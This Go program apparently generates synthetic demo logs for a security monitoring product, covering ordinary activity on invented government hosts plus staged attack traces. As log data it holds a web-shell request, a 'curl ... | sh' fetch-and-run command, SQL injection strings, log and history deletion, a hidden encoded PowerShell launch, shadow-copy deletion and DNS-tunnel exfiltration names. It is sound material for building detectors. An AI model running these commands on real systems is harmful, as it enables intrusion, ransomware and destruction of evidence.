//go:build ignore

// Demogen writes demo.ndjson, what the sample systems are supposed to have sent: go run demogen.go > demo.ndjson
//
// Ordinary work of eight hours, thinner in the past, and the traces of some attacks. Everything is invented: addresses are those for
// documentation (RFC 5737) and private ones, names end in ".mau" or ".example", citizens' numbers have the shape of real ones and
// count up from 000001.
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
)

type line struct {
	Source string  `json:"source"`
	Ago    float64 `json:"ago"`
	Format string  `json:"format"`
	Raw    string  `json:"raw"`
	Once   bool    `json:"once,omitempty"` // not ordinary: never played again
}

var (
	rng   = rand.New(rand.NewPCG(2026, 11))
	lines []line
	once  bool // what is added now happened once
)

func add(source string, ago float64, format, raw string) {
	lines = append(lines, line{source, float64(int(ago*10)) / 10, format, raw, once})
}

// syslog is a message of a program of a host; the source is named after the host.
func syslog(source string, ago float64, pri int, app, format string, args ...any) {
	add(source, ago, "syslog", fmt.Sprintf("<%d>{{rfc3164}} %s-01 %s: ", pri, source, app)+fmt.Sprintf(format, args...))
}

// record is a flat ECS record as the product's own sensors make them.
func record(source string, ago float64, fields ...any) {
	m := map[string]any{"@timestamp": "{{rfc3339}}", "host.name": source + "-01", "event.kind": "event"}
	for i := 0; i < len(fields); i += 2 {
		m[fields[i].(string)] = fields[i+1]
	}
	add(source, ago, "ecs", text(m))
}

// windows is a document of Winlogbeat.
func windows(source string, ago float64, channel, provider string, id int, data map[string]any) {
	add(source, ago, "json", text(map[string]any{"@timestamp": "{{rfc3339}}", "host": map[string]any{"name": source + "-01"},
		"event": map[string]any{"code": fmt.Sprint(id), "kind": "event", "provider": provider},
		"winlog": map[string]any{"channel": channel, "provider_name": provider, "event_id": id, "computer_name": source + "-01.mau.example",
			"event_data": data}}))
}

func text(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func pick[T any](of []T) T { return of[rng.IntN(len(of))] }

// past is a time in the last eight hours, more often of late.
func past() float64 { x := rng.Float64(); return 90 + x*x*8*3600 }

var (
	citizens = []string{"198.51.100.101", "198.51.100.114", "198.51.100.133", "198.51.100.158", "203.0.113.101", "203.0.113.129",
		"203.0.113.140", "203.0.113.171"}
	clerks = []string{"10.20.7.21", "10.20.7.24", "10.20.7.31", "10.20.8.11", "10.20.8.17", "10.20.9.40"}
	admins = []string{"10.20.1.15", "10.20.1.16", "10.20.1.22"}
	agents = []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0",
		"Mozilla/5.0 (Linux; Android 14) Mobile Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)"}
	persons = []string{"ntbinh.mau", "pvcuong.mau", "ltdung.mau", "hvgiang.mau", "vthanh.mau", "dtlan.mau", "bmkhoa.mau"}
)

func access(source string, ago float64, ip, user, request string, status, size int, agent string) {
	syslog(source, ago, 190, "nginx", `%s - %s [{{clf}}] "%s HTTP/1.1" %d %d "-" "%s"`, ip, user, request, status, size, agent)
}

// paths are what people ask of each web server.
var paths = map[string][]string{
	"mau-dvc-web": {"/", "/dich-vu-cong", "/dich-vu-cong/thu-tuc?ma=1.000656", "/ho-so/tao-moi", "/ho-so/trang-thai?ma=H42-2026-118",
		"/tin-tuc", "/assets/app.js", "/assets/app.css"},
	"mau-vbdh-web":   {"/", "/van-ban/den", "/van-ban/di", "/van-ban/xem?so=118-UBND", "/lich-cong-tac", "/assets/app.js"},
	"mau-lgsp-web":   {"/api/v1/suc-khoe", "/api/v1/danh-muc/don-vi", "/api/v1/danh-muc/thu-tuc", "/api/v1/trang-thai"},
	"mau-kho-web":    {"/", "/bo-du-lieu", "/bo-du-lieu/dan-so-theo-xa", "/ban-do", "/assets/map.js"},
	"mau-hssk-web":   {"/", "/ho-so", "/lich-kham", "/don-thuoc", "/assets/app.js"},
	"mau-thuoc-web":  {"/", "/kho", "/kho/ton", "/don-thuoc/moi", "/bao-cao/thang"},
	"mau-datdai-web": {"/", "/tra-cuu-quy-hoach", "/ban-do/to?so=12", "/ho-so/trang-thai?ma=DD-2026-77", "/assets/map.js"},
}

// servers are the hosts with Linux.
var servers = []string{"mau-dvc-app", "mau-dvc-db", "mau-dvc-web", "mau-kho-app", "mau-kho-db", "mau-lgsp-app", "mau-lgsp-db", "mau-hssk-app",
	"mau-hssk-db", "mau-datdai-app", "mau-datdai-db", "mau-baocao-app", "mau-baocao-db", "mau-mail-app", "mau-mail-db", "mau-ngansach-app",
	"mau-ngansach-db", "mau-cbcc-app", "mau-cbcc-db", "mau-hotich-app", "mau-hotich-db"}

// machines are the hosts with Windows.
var machines = []string{"mau-vbdh-app", "mau-vbdh-db", "mau-thuoc-app", "mau-thuoc-db", "mau-dkkd-app", "mau-dkkd-db", "mau-capphep-app",
	"mau-capphep-db", "mau-congchung-app", "mau-congchung-db", "mau-tiepdan-app", "mau-tiepdan-db"}

// ordinary: eight hours of work. Its parts draw from one rng: their order is part of the file they write.
func ordinary() {
	visits()
	administration()
	jobs()
	mistyped()
	databases()
	firewalls()
	windowsLogons()
	names()
}

// visits: people and clerks read pages.
func visits() {
	hosts := []string{}
	for h := range paths {
		hosts = append(hosts, h)
	}
	slices.Sort(hosts)
	for range 330 {
		h := pick(hosts)
		ip, user := pick(citizens), "-"
		if strings.Contains("mau-vbdh-web mau-lgsp-web mau-thuoc-web", h) || rng.IntN(3) == 0 {
			ip = pick(clerks)
		}
		if h == "mau-vbdh-web" || h == "mau-hssk-web" {
			user = pick(persons)
		}
		status := pick([]int{200, 200, 200, 200, 200, 200, 304, 302, 404})
		access(h, past(), ip, user, "GET "+pick(paths[h]), status, 200+rng.IntN(40000), pick(agents))
	}
}

// administration: somebody logs in over SSH and perhaps runs a command as root.
func administration() {
	for range 70 {
		h, who, ip, pid, at := pick(servers), pick([]string{"qtht01.mau", "qtht02.mau", "vanhanh.mau"}), pick(admins), 1000+rng.IntN(30000),
			past()
		syslog(h, at, 38, fmt.Sprintf("sshd[%d]", pid), "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:mau%08x", who, ip,
			40000+rng.IntN(20000), rng.Uint32())
		syslog(h, at-0.1, 86, fmt.Sprintf("sshd[%d]", pid), "pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)", who)
		if rng.IntN(2) == 0 {
			syslog(h, max(at-60, 1), 85, "sudo", " %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", who, who,
				pick([]string{"/usr/bin/systemctl status nginx", "/usr/bin/journalctl -n 100", "/usr/bin/apt list --upgradable", "/usr/bin/df -h"}))
		}
	}
}

// jobs: cron begins them.
func jobs() {
	for range 70 {
		h := pick(servers)
		syslog(h, past(), 78, fmt.Sprintf("CRON[%d]", 1000+rng.IntN(30000)), "(root) CMD (%s)",
			pick([]string{"run-parts /etc/cron.hourly", "/usr/local/bin/sao-luu.sh", "/usr/lib/sysstat/sa1 1 1"}))
	}
}

// mistyped: wrong passwords, one at a time.
func mistyped() {
	once = true
	for range 25 {
		syslog(pick(servers), past(), 38, fmt.Sprintf("sshd[%d]", 1000+rng.IntN(30000)), "Failed password for %s from %s port %d ssh2",
			pick([]string{"qtht01.mau", "vanhanh.mau"}), pick(admins), 40000+rng.IntN(20000))
	}
	once = false
}

// databases: what PostgreSQL logs.
func databases() {
	for range 60 {
		h := pick([]string{"mau-dvc-db", "mau-kho-db"})
		app := strings.TrimSuffix(h, "-db") + "-app"
		syslog(h, past(), 134, fmt.Sprintf("postgres[%d]", 1000+rng.IntN(30000)), "%s",
			pick([]string{"[5-1] LOG:  connection authorized: user=ungdung database=" + app,
				"[6-1] LOG:  duration: 41.7 ms  statement: SELECT count(*) FROM ho_so WHERE trang_thai = 2",
				"[7-1] LOG:  checkpoint complete: wrote 120 buffers"}))
	}
}

// firewalls: what they let in and turn away.
func firewalls() {
	for _, fw := range []string{"mau-dvc-fw", "mau-vbdh-fw", "mau-lgsp-fw", "mau-kho-fw", "mau-hssk-fw", "mau-thuoc-fw", "mau-datdai-fw"} {
		for range 18 {
			action, dst, port := "accept", fmt.Sprintf("192.0.2.%d", 11+rng.IntN(40)), 443
			if rng.IntN(4) == 0 {
				action, port = "deny", pick([]int{22, 23, 445, 3389, 1433})
			}
			at := past()
			add(fw, at, "syslog",
				fmt.Sprintf(`<189>date={{date}} time={{clock}} devname="%s-01" devid="FGT60FMAU0000001" eventtime={{epoch}}000000000 tz="+0700" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=%s srcport=%d srcintf="wan1" srcintfrole="wan" dstip=%s dstport=%d dstintf="dmz" dstintfrole="dmz" proto=6 action="%s" policyid=%d service="%s" sessionid=%d sentbyte=%d rcvdbyte=%d sentpkt=12 rcvdpkt=14 duration=%d`,
					fw, pick(citizens), 30000+rng.IntN(30000), dst, port, action, 1+rng.IntN(9), map[bool]string{true: "HTTPS", false: "tcp"}[port == 443],
					100000+rng.IntN(900000), 500+rng.IntN(9000), 900+rng.IntN(90000), 1+rng.IntN(90)))
		}
	}
}

// windowsLogons: logons, logoffs and services.
func windowsLogons() {
	for range 110 {
		h, who := pick(machines), pick(persons)
		once = strings.HasPrefix(h, "mau-tiepdan") || strings.HasPrefix(h, "mau-congchung") // two systems that have fallen silent
		switch rng.IntN(4) {
		case 0, 1:
			windows(h, past(), "Security", "Microsoft-Windows-Security-Auditing", 4624,
				map[string]any{"TargetUserName": who, "TargetDomainName": "MAU", "LogonType": "3", "IpAddress": pick(clerks),
					"IpPort": fmt.Sprint(50000 + rng.IntN(9000)), "LogonProcessName": "NtLmSsp"})
		case 2:
			windows(h, past(), "Security", "Microsoft-Windows-Security-Auditing", 4634,
				map[string]any{"TargetUserName": who, "TargetDomainName": "MAU", "LogonType": "3"})
		default:
			windows(h, past(), "System", "Service Control Manager", 7036,
				map[string]any{"param1": pick([]string{"SQL Server (MSSQLSERVER)", "Windows Update", "Print Spooler"}),
					"param2": pick([]string{"running", "stopped"})})
		}
	}
	once = false
}

// names: what hosts look up, as the packet sensor sees it.
func names() {
	for range 40 {
		h := pick([]string{"mau-dvc-app", "mau-kho-app", "mau-hssk-app", "mau-ngansach-app"})
		record(h, past(), "event.category", "network", "event.action", "dns_query", "event.module", "packet", "event.dataset", "hoalu.dns",
			"network.protocol", "dns", "network.transport", "udp",
			"source.ip", "10.20.3."+fmt.Sprint(10+rng.IntN(40)), "destination.ip", "10.20.0.53", "destination.port", 53, "dns.type", "answer",
			"dns.question.name", pick([]string{"ntp.mau.example", "ldap.mau.example", "kho.mau.example", "cap-nhat.example"}), "dns.question.type",
			"A", "dns.response_code", "NOERROR", "event.outcome", "success",
			"sigma.logsource.product", "hoalu", "sigma.logsource.service", "packet", "sigma.logsource.category", "dns")
	}
}

// process is a process start as the eBPF probe tells it.
func process(source string, ago float64, parent, image, command, user string) {
	record(source, ago, "event.category", "process", "event.type", "start", "event.action", "exec", "event.module", "hoalu", "event.dataset",
		"hoalu.process", "process.pid", 4000+rng.IntN(20000), "process.name", image[strings.LastIndexByte(image, '/')+1:],
		"process.executable", image, "process.command_line", command, "process.parent.name", parent[strings.LastIndexByte(parent, '/')+1:],
		"process.parent.executable", parent, "user.name", user, "sigma.logsource.product", "linux", "sigma.logsource.category",
		"process_creation")
}

// attacks: each happened once. Their order is part of the file, as with ordinary.
func attacks() {
	once = true
	portal()
	dataStore()
	healthRecords()
	sharing()
	land()
	budget()
	documents()
	medicines()
	permits()
	singleHosts()
	detector()
}

// portal: the public service portal is scanned, a web shell found, a shell run below nginx, tools fetched.
func portal() {
	for i := range 45 {
		access("mau-dvc-web", 2*3600-float64(i)*4, "203.0.113.77", "-",
			fmt.Sprintf("GET /%s%d/%s", pick([]string{"backup", "old", "test", "upload", "tmp"}), i,
				pick([]string{"admin.php", "up.php", "index.php", "config.php"})), 404, 162,
			"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")
	}
	access("mau-dvc-web", 5300, "203.0.113.77", "-", "GET /uploads/anh-the.php?cmd=id", 200, 54, "curl/8.5.0")
	access("mau-dvc-web", 5280, "203.0.113.77", "-", "GET /uploads/anh-the.php?cmd=uname+-a", 200, 121, "curl/8.5.0")
	process("mau-dvc-web", 5299, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c id", "www-data")
	process("mau-dvc-web", 5279, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c uname -a", "www-data")
	process("mau-dvc-web", 5200, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.66/a.sh | sh", "www-data")
}

// dataStore: SSH of the shared data store is guessed, then open.
func dataStore() {
	for i := range 26 {
		syslog("mau-kho-app", 9000-float64(i)*6, 38, fmt.Sprintf("sshd[%d]", 2200+i), "Failed password for %s from 198.51.100.47 port %d ssh2",
			pick([]string{"root", "vanhanh.mau"}), 41000+i)
	}
	syslog("mau-kho-app", 8820, 38, "sshd[2230]", "Accepted password for vanhanh.mau from 198.51.100.47 port 41900 ssh2")
	syslog("mau-kho-app", 8700, 85, "sudo", " vanhanh.mau : TTY=pts/1 ; PWD=/home/vanhanh.mau ; USER=root ; COMMAND=/bin/bash")
	process("mau-kho-app", 8400, "/usr/bin/bash", "/usr/bin/rm", "rm -f /var/log/auth.log /root/.bash_history", "root")
}

// healthRecords: one password, many accounts; and a clerk's account that looks up one citizen after another.
func healthRecords() {
	for i, u := range append(slices.Clone(persons), "tqminh.mau", "nhphuc.mau") {
		syslog("mau-hssk-app", 14000-float64(i)*70, 38, fmt.Sprintf("sshd[%d]", 3100+i),
			"Failed password for invalid user %s from 203.0.113.90 port %d ssh2", u, 52000+i)
	}
	for i := range 48 {
		access("mau-hssk-web", 3400-float64(i)*26, "10.20.7.31", "bmkhoa.mau", fmt.Sprintf("GET /ho-so/tra-cuu?cccd=0371%02d%06d", 60+i%38, i+1),
			200, 2100+rng.IntN(900), agents[0])
	}
}

// sharing: SQL in an address of the sharing platform.
func sharing() {
	for i := range 6 {
		access("mau-lgsp-web", 6900-float64(i)*9, "198.51.100.23", "-",
			pick([]string{"GET /api/v1/danh-muc?ma=1%27%20OR%201=1--", "GET /api/v1/danh-muc?ma=5+UNION+SELECT+ten,mat_khau+FROM+tai_khoan"}), 500,
			310, agents[0])
	}
}

// land: a backup of the land information is served to the Internet.
func land() {
	access("mau-datdai-web", 10900, "203.0.113.171", "-", "GET /sao-luu/backup.sql", 200, 18234011, "Wget/1.21.4")
}

// budget: data leaves in DNS questions.
func budget() {
	for i := range 40 {
		record("mau-ngansach-app", 1500-float64(i)*5, "event.category", "network", "event.action", "dns_query", "event.module", "packet",
			"event.dataset", "hoalu.dns", "network.protocol", "dns", "network.transport", "udp", "source.ip", "10.20.3.42", "destination.ip",
			"10.20.0.53", "destination.port", 53,
			"dns.type", "answer", "dns.question.name", fmt.Sprintf("%08x%08x%08x%08x%02d.kq.x9-ham.example", rng.Uint32(), rng.Uint32(),
				rng.Uint32(), rng.Uint32(), i), "dns.question.type", "A", "dns.response_code", "NXDOMAIN", "event.outcome", "failure",
			"sigma.logsource.product", "hoalu", "sigma.logsource.service", "packet", "sigma.logsource.category", "dns")
	}
}

// documents: Windows passwords are guessed from a workstation.
func documents() {
	for i := range 16 {
		windows("mau-vbdh-app", 7600-float64(i)*12, "Security", "Microsoft-Windows-Security-Auditing", 4625,
			map[string]any{"TargetUserName": "Administrator", "TargetDomainName": "MAU", "LogonType": "3", "IpAddress": "10.20.9.40",
				"IpPort": fmt.Sprint(51000 + i), "Status": "0xc000006d", "SubStatus": "0xc000006a"})
	}
}

// medicines: a hidden command, then the log is cleared.
func medicines() {
	windows("mau-thuoc-app", 12600, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
		map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			"CommandLine": "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAbQBhAHUAJwA7ACAAVwByAGkAdABlAC0ASABvAHMAdAA=",
			"ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "User": `MAU\dtlan.mau`, "ProcessId": "4120"})
	windows("mau-thuoc-db", 12000, "Security", "Microsoft-Windows-Eventlog", 1102,
		map[string]any{"SubjectUserName": "dtlan.mau", "SubjectDomainName": "MAU"})
}

// permits: ransomware's first step at the building permits.
func permits() {
	windows("mau-capphep-db", 2600, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
		map[string]any{"Image": `C:\Windows\System32\vssadmin.exe`, "CommandLine": "vssadmin delete shadows /all /quiet",
			"ParentImage": `C:\Users\Public\capnhat.exe`, "User": `MAU\svc.saoluu`, "ProcessId": "5012"})
}

// singleHosts: sudo refused at the mail, a new account with rights at the reports, the log service of the staff's database stopped.
func singleHosts() {
	for i := range 4 {
		syslog("mau-mail-app", 16000-float64(i)*100, 81, "sudo",
			" hvgiang.mau : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/hvgiang.mau ; USER=root ; COMMAND=/bin/bash")
	}
	syslog("mau-baocao-app", 20000, 86, "useradd[8101]",
		"new user: name=hotro2.mau, UID=1007, GID=1007, home=/home/hotro2.mau, shell=/bin/bash, from=/dev/pts/0")
	syslog("mau-baocao-app", 19980, 86, "usermod[8110]", "add 'hotro2.mau' to group 'sudo'")
	syslog("mau-cbcc-db", 23000, 30, "systemd[1]", "Stopped rsyslog.service - System Logging Service.")
}

// detector: the intrusion detection system in front of the data store.
func detector() {
	add("mau-kho-fw", 9100, "json",
		text(map[string]any{"timestamp": "{{rfc3339}}", "flow_id": 118000118, "in_iface": "eth1", "event_type": "alert",
			"src_ip": "198.51.100.47", "src_port": 41000, "dest_ip": "192.0.2.26", "dest_port": 22, "proto": "TCP", "app_proto": "ssh",
			"host": "mau-kho-fw-01",
			"alert": map[string]any{"action": "allowed", "gid": 1, "signature_id": 9000118, "rev": 1, "signature": "MAU EXPLOIT OpenSSH attempt",
				"category": "Attempted Administrator Privilege Gain", "severity": 1}}))
}

func main() {
	ordinary()
	attacks()
	slices.SortStableFunc(lines, func(a, b line) int { return int(b.Ago*10) - int(a.Ago*10) })
	w := bufio.NewWriter(os.Stdout)
	enc := json.NewEncoder(w)
	enc.SetEscapeHTML(false)
	for _, l := range lines {
		if err := enc.Encode(l); err != nil {
			panic(err)
		}
	}
	if err := w.Flush(); err != nil {
		panic(err)
	}
}
